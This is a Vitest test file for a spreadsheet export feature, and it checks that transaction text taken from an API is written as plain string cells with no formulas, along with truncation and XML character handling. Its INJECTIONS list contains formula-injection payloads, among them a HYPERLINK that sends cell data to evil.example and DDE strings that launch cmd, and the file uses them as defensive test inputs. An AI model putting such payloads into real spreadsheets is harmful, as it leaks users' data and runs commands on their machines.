// API text is data: injection-shaped text stays a plain string cell, over-long text is cut
// with a visible marker, and characters XML cannot carry never reach the file.
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { normalizeSession } from '../../../src/shared/model/normalize';
import { EXCEL_MAX_CELL_TEXT } from '../../../src/core/export/limits';
import { cellText, looksLikeFormula, truncationMarker } from '../../../src/core/export/text';
import { apiTransaction, column, exportTo, sheet, withTransactions } from './helpers';

const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '=1+1',
  '+91 98765 43210',
  '-2+3',
  '@SUM(A1:A2)',
  "\t=cmd|' /C calc'!A0",
  '\r=1+2',
  'DDE("cmd";"/C calc";"!A0")',
];

/**
 * A cell's text as Excel shows it: ECMA-376's ST_Xstring decoding, written out here
 * independently of the app (each `_xHHHH_` is the character HHHH, read left to right).
 */
function asExcelReads(stored: string): string {
  return stored.replace(/_x([0-9A-Fa-f]{4})_/g, (_, hex: string) =>
    String.fromCharCode(parseInt(hex, 16)),
  );
}

describe('text Excel would decode, and carriage returns', () => {
  it('comes back as the API sent it: _x0041_ stays _x0041_, a CR stays a CR', async () => {
    const texts = ['PAY _x0041_ REF', 'LINE1\rLINE2', 'A\r\nB', '_x005F_ and _X12_ and _x12345_'];
    const data = withTransactions((id) =>
      texts.map((text, i) => apiTransaction(id, i, { transaction_note: text })),
    );
    const { workbook } = await exportTo(normalizeSession(data));
    const ws = sheet(workbook, 'Transactions');
    const narration = column(ws, 'Narration');
    const stored = texts.map((_, i) => ws.getCell(i + 2, narration).value as string);
    // Written by hand: the `_` of a _xHHHH_ run becomes _x005F_, a CR becomes _x000D_.
    expect(stored).toEqual([
      'PAY _x005F_x0041_ REF',
      'LINE1_x000D_LINE2',
      'A_x000D_\nB',
      '_x005F_x005F_ and _X12_ and _x12345_',
    ]);
    expect(stored.map(asExcelReads)).toEqual(texts);
  });
});

describe('injection-shaped text', () => {
  it('is written as string cells, never formulas, with the Text format', async () => {
    const data = withTransactions((id) =>
      INJECTIONS.map((text, i) =>
        apiTransaction(id, i, {
          transaction_note: text,
          description: text,
          category: text,
          chq_num: text,
        }),
      ),
    );
    const { workbook } = await exportTo(normalizeSession(data), { allFields: true });
    const ws = sheet(workbook, 'Transactions');
    const narration = column(ws, 'Narration');
    INJECTIONS.forEach((text, i) => {
      for (const c of [narration, column(ws, 'Description'), column(ws, 'Category')]) {
        const cell = ws.getCell(i + 2, c);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
        // As Excel reads the cell (its _xHHHH_ escapes decoded): exactly the API's text.
        expect(asExcelReads(cell.value as string)).toBe(text);
        if (looksLikeFormula(text)) expect(cell.numFmt).toBe('@');
      }
    });
    const all = sheet(workbook, 'Transactions (all fields)');
    const note = column(all, 'transaction_note');
    INJECTIONS.forEach((_, i) =>
      expect(all.getCell(i + 2, note).type).toBe(ExcelJS.ValueType.String),
    );
    // No cell in any sheet is a formula or a hyperlink.
    for (const s of workbook.worksheets) {
      s.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.type).not.toBe(ExcelJS.ValueType.Hyperlink);
        }),
      );
    }
  });

  it('recognises the characters spreadsheets treat as a formula start', () => {
    for (const text of ['=a', '+a', '-a', '@a', '\ta', '\ra'])
      expect(looksLikeFormula(text)).toBe(true);
    for (const text of ['a=', ' =a', '', '1-2']) expect(looksLikeFormula(text)).toBe(false);
  });
});

describe('long text', () => {
  it('cuts a 40,000-character narration to the cell limit with a visible marker', async () => {
    const long = 'N'.repeat(39_990) + 'END-OF-TEXT';
    expect(long.length).toBe(40_001);
    const data = withTransactions((id) => [apiTransaction(id, 1, { transaction_note: long })]);
    const { workbook } = await exportTo(normalizeSession(data));
    const ws = sheet(workbook, 'Transactions');
    const value = ws.getCell(2, column(ws, 'Narration')).value as string;
    expect(value.length).toBe(EXCEL_MAX_CELL_TEXT);
    expect(value.endsWith(truncationMarker(40_001))).toBe(true);
    expect(value).toContain('40,001 characters');
    expect(value.startsWith('N'.repeat(30_000))).toBe(true);
  });

  it('never splits a surrogate pair and leaves short text alone', () => {
    const emoji = '😀'.repeat(20_000);
    const cut = cellText(emoji);
    expect(cut.length).toBeLessThanOrEqual(EXCEL_MAX_CELL_TEXT);
    expect(cut).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
    expect(cellText('short')).toBe('short');
  });

  it('replaces code points XML cannot carry', () => {
    expect(cellText('a\ufffeb\uffffc')).toBe('a\ufffdb\ufffdc');
    expect(cellText('x\ud800y')).toBe('x\ufffdy');
    expect(cellText('😀')).toBe('😀');
  });

  it('writes control characters and odd code points without breaking the file', async () => {
    const text = 'bell\u0007 nul\u0000 vt\u000b ok\ufffe end';
    const data = withTransactions((id) => [apiTransaction(id, 1, { transaction_note: text })]);
    const { workbook } = await exportTo(normalizeSession(data));
    const ws = sheet(workbook, 'Transactions');
    expect(ws.getCell(2, column(ws, 'Narration')).value).toBe('bell nul vt ok\ufffd end');
  });
});
